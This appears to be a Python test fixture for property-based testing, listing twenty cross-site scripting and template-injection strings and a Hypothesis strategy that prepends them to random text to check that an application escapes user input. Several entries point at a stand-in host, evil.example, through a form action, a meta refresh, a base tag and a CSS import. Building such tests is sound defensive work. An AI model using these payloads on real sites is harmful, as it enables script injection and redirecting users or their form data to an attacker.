"""Twenty strings that try to become more than text, and a strategy for others."""

from hypothesis import strategies as st

STRINGS = (
    "<script>document.title='ran'</script>",
    "<img src=x onerror=\"document.title='ran'\">",
    "<svg onload=document.title='ran'>",
    "\"><script>document.title='ran'</script>",
    "' onmouseover='document.title=1' x='",
    '" autofocus onfocus="document.title=1',
    "</title><script>document.title='ran'</script>",
    "</textarea></select></option><script>document.title='ran'</script>",
    "<iframe srcdoc=\"<script>parent.document.title='ran'</script>\"></iframe>",
    "<details open ontoggle=document.title='ran'>",
    "<style>@import'//evil.example';*{display:none}</style>",
    "<form action=//evil.example><button>Send</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<math><mtext><script>document.title='ran'</script></mtext></math>",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
    "javascript:document.title='ran'",
    "<!--><script>document.title='ran'</script-->",
    "&lt;script&gt;document.title='ran'&lt;/script&gt;",
    "\u202e<scr\u0000ipt>\U000e0041\u2066evil\u2069",
)

#: Never blank, and never too long for the shortest field it is shown in.
texts = st.builds(
    lambda head, text: f"a{head}{text}"[:100].strip(),
    st.sampled_from(STRINGS),
    st.text(max_size=20),
)
